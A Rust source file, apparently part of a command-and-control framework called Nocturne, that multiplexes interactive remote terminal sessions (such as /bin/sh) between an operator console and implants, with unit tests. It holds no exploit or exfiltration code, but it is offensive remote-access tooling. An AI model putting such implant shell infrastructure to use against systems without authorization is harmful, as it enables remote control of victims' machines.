use crate::protocol::types::{base64_bytes, TaskData, TaskType};
use crate::{NocturneError, Result};
use dashmap::DashMap;
use serde::{Deserialize, Serialize};
use tokio::sync::mpsc;

/// Terminal operations raised by the operator console, one variant per
/// callback.
#[derive(Debug, Clone)]
pub enum TerminalCommand {
    Start {
        terminal_id: u32,
        program: String,
        rows: u16,
        cols: u16,
        oem_cp: i32,
    },
    Write {
        terminal_id: u32,
        oem_cp: i32,
        data: Vec<u8>,
    },
    Close {
        terminal_id: u32,
    },
}

/// Wire body of a terminal task, carried in the task's data field. The OEM
/// code page rides along so output bytes can be transcoded for the
/// operator's console.
#[derive(Debug, Clone, Default, Serialize, Deserialize)]
#[serde(default)]
pub struct TerminalFrame {
    #[serde(rename = "f_cmd")]
    pub command: String,
    #[serde(rename = "f_terminal_id")]
    pub terminal_id: u32,
    #[serde(rename = "f_program")]
    pub program: String,
    #[serde(rename = "f_rows")]
    pub rows: u16,
    #[serde(rename = "f_cols")]
    pub cols: u16,
    #[serde(rename = "f_oemcp")]
    pub oem_cp: i32,
    #[serde(rename = "f_data", with = "base64_bytes")]
    pub data: Vec<u8>,
}

#[derive(Debug, Clone, PartialEq, Eq)]
pub enum TerminalEvent {
    Output(Vec<u8>),
    Closed,
}

struct Terminal {
    agent_id: String,
    oem_cp: i32,
    closed: bool,
    events: mpsc::UnboundedSender<TerminalEvent>,
}

/// Demultiplexes interactive terminal sessions over the agent transport,
/// keyed by terminal id.
pub struct TerminalMultiplexer {
    terminals: DashMap<u32, Terminal>,
}

impl Default for TerminalMultiplexer {
    fn default() -> Self {
        Self::new()
    }
}

impl TerminalMultiplexer {
    pub fn new() -> Self {
        Self {
            terminals: DashMap::new(),
        }
    }

    /// Dispatch one terminal operation, producing the task to queue for the
    /// agent. Start also hands back the output event stream. Close on an
    /// already-closed terminal returns no task at all: teardown races
    /// between operator and implant are expected.
    pub fn handle(
        &self,
        agent_id: &str,
        command: TerminalCommand,
    ) -> Result<(Option<TaskData>, Option<mpsc::UnboundedReceiver<TerminalEvent>>)> {
        match command {
            TerminalCommand::Start {
                terminal_id,
                program,
                rows,
                cols,
                oem_cp,
            } => {
                if self.terminals.contains_key(&terminal_id) {
                    return Err(NocturneError::ChannelInUse(terminal_id));
                }

                let (tx, rx) = mpsc::unbounded_channel();
                self.terminals.insert(
                    terminal_id,
                    Terminal {
                        agent_id: agent_id.to_string(),
                        oem_cp,
                        closed: false,
                        events: tx,
                    },
                );
                tracing::info!(terminal_id = terminal_id, program = %program, rows = rows, cols = cols, "Terminal starting");

                let task = terminal_task(
                    agent_id,
                    TerminalFrame {
                        command: "start".to_string(),
                        terminal_id,
                        program,
                        rows,
                        cols,
                        oem_cp,
                        data: Vec::new(),
                    },
                )?;
                Ok((Some(task), Some(rx)))
            }
            TerminalCommand::Write {
                terminal_id,
                oem_cp,
                data,
            } => {
                let terminal = self
                    .terminals
                    .get(&terminal_id)
                    .ok_or(NocturneError::UnknownTerminal(terminal_id))?;
                if terminal.closed {
                    return Err(NocturneError::ChannelClosed(terminal_id));
                }

                let task = terminal_task(
                    &terminal.agent_id,
                    TerminalFrame {
                        command: "write".to_string(),
                        terminal_id,
                        oem_cp,
                        data,
                        ..Default::default()
                    },
                )?;
                Ok((Some(task), None))
            }
            TerminalCommand::Close { terminal_id } => {
                let Some(mut terminal) = self.terminals.get_mut(&terminal_id) else {
                    // Already torn down and reaped; idempotent no-op
                    return Ok((None, None));
                };
                if terminal.closed {
                    return Ok((None, None));
                }

                terminal.closed = true;
                let _ = terminal.events.send(TerminalEvent::Closed);
                tracing::info!(terminal_id = terminal_id, "Terminal close requested");

                let task = terminal_task(
                    &terminal.agent_id,
                    TerminalFrame {
                        command: "close".to_string(),
                        terminal_id,
                        ..Default::default()
                    },
                )?;
                Ok((Some(task), None))
            }
        }
    }

    /// Output bytes from the implant, forwarded in arrival order to the
    /// operator console.
    pub fn process_output(&self, terminal_id: u32, data: Vec<u8>) -> Result<()> {
        let terminal = self
            .terminals
            .get(&terminal_id)
            .ok_or(NocturneError::UnknownTerminal(terminal_id))?;
        let _ = terminal.events.send(TerminalEvent::Output(data));
        Ok(())
    }

    /// The implant reported the terminal gone (process exit or close
    /// acknowledgement); the id becomes reusable.
    pub fn acknowledge_close(&self, terminal_id: u32) {
        if let Some((_, terminal)) = self.terminals.remove(&terminal_id) {
            if !terminal.closed {
                // Implant-initiated teardown; tell the operator side
                let _ = terminal.events.send(TerminalEvent::Closed);
            }
        }
    }

    pub fn oem_cp(&self, terminal_id: u32) -> Option<i32> {
        self.terminals.get(&terminal_id).map(|t| t.oem_cp)
    }

    pub fn terminal_count(&self) -> usize {
        self.terminals.len()
    }
}

fn terminal_task(agent_id: &str, frame: TerminalFrame) -> Result<TaskData> {
    let mut task = TaskData::new(TaskType::Job, agent_id);
    task.handler_id = format!("terminal-{}", frame.terminal_id);
    task.data =
        serde_json::to_vec(&frame).map_err(|e| NocturneError::MalformedRecord(e.to_string()))?;
    Ok(task)
}

#[cfg(test)]
mod tests {
    use super::*;

    fn start_cmd(terminal_id: u32) -> TerminalCommand {
        TerminalCommand::Start {
            terminal_id,
            program: "/bin/sh".to_string(),
            rows: 24,
            cols: 80,
            oem_cp: 437,
        }
    }

    #[test]
    fn start_emits_job_task_with_frame() {
        let mux = TerminalMultiplexer::new();
        let (task, rx) = mux.handle("agent-1", start_cmd(3)).unwrap();
        assert!(rx.is_some());

        let task = task.unwrap();
        assert_eq!(task.task_type, TaskType::Job as i32);
        let frame: TerminalFrame = serde_json::from_slice(&task.data).unwrap();
        assert_eq!(frame.command, "start");
        assert_eq!(frame.terminal_id, 3);
        assert_eq!(frame.program, "/bin/sh");
        assert_eq!((frame.rows, frame.cols), (24, 80));
        assert_eq!(frame.oem_cp, 437);
        assert_eq!(mux.oem_cp(3), Some(437));
    }

    #[test]
    fn writes_keep_their_order_in_the_emitted_tasks() {
        let mux = TerminalMultiplexer::new();
        mux.handle("agent-1", start_cmd(3)).unwrap();

        let payloads = [b"A".to_vec(), b"B".to_vec()];
        let mut seen = Vec::new();
        for payload in payloads {
            let (task, _) = mux
                .handle(
                    "agent-1",
                    TerminalCommand::Write {
                        terminal_id: 3,
                        oem_cp: 437,
                        data: payload,
                    },
                )
                .unwrap();
            let frame: TerminalFrame = serde_json::from_slice(&task.unwrap().data).unwrap();
            seen.push(frame.data);
        }
        assert_eq!(seen, vec![b"A".to_vec(), b"B".to_vec()]);
    }

    #[test]
    fn write_to_unknown_terminal_fails() {
        let mux = TerminalMultiplexer::new();
        assert!(matches!(
            mux.handle(
                "agent-1",
                TerminalCommand::Write {
                    terminal_id: 9,
                    oem_cp: 437,
                    data: vec![]
                }
            ),
            Err(NocturneError::UnknownTerminal(9))
        ));
    }

    #[tokio::test]
    async fn close_is_idempotent_with_one_downstream_notification() {
        let mux = TerminalMultiplexer::new();
        let (_, rx) = mux.handle("agent-1", start_cmd(3)).unwrap();
        let mut rx = rx.unwrap();

        let (first, _) = mux
            .handle("agent-1", TerminalCommand::Close { terminal_id: 3 })
            .unwrap();
        assert!(first.is_some());

        let (second, _) = mux
            .handle("agent-1", TerminalCommand::Close { terminal_id: 3 })
            .unwrap();
        assert!(second.is_none());

        assert_eq!(rx.recv().await, Some(TerminalEvent::Closed));
        // Sender side has queued exactly one Closed event
        assert!(rx.try_recv().is_err());
    }

    #[tokio::test]
    async fn implant_initiated_teardown_notifies_operator_once() {
        let mux = TerminalMultiplexer::new();
        let (_, rx) = mux.handle("agent-1", start_cmd(5)).unwrap();
        let mut rx = rx.unwrap();

        mux.acknowledge_close(5);
        assert_eq!(rx.recv().await, Some(TerminalEvent::Closed));
        assert_eq!(mux.terminal_count(), 0);

        // Closing after the reaping stays a no-op
        let (task, _) = mux
            .handle("agent-1", TerminalCommand::Close { terminal_id: 5 })
            .unwrap();
        assert!(task.is_none());
    }

    #[tokio::test]
    async fn output_flows_in_order() {
        let mux = TerminalMultiplexer::new();
        let (_, rx) = mux.handle("agent-1", start_cmd(1)).unwrap();
        let mut rx = rx.unwrap();

        mux.process_output(1, b"$ ".to_vec()).unwrap();
        mux.process_output(1, b"ok".to_vec()).unwrap();
        assert_eq!(rx.recv().await, Some(TerminalEvent::Output(b"$ ".to_vec())));
        assert_eq!(rx.recv().await, Some(TerminalEvent::Output(b"ok".to_vec())));
    }

    #[test]
    fn terminal_id_reuse_requires_teardown() {
        let mux = TerminalMultiplexer::new();
        mux.handle("agent-1", start_cmd(2)).unwrap();
        assert!(matches!(
            mux.handle("agent-1", start_cmd(2)),
            Err(NocturneError::ChannelInUse(2))
        ));

        mux.acknowledge_close(2);
        assert!(mux.handle("agent-1", start_cmd(2)).is_ok());
    }
}
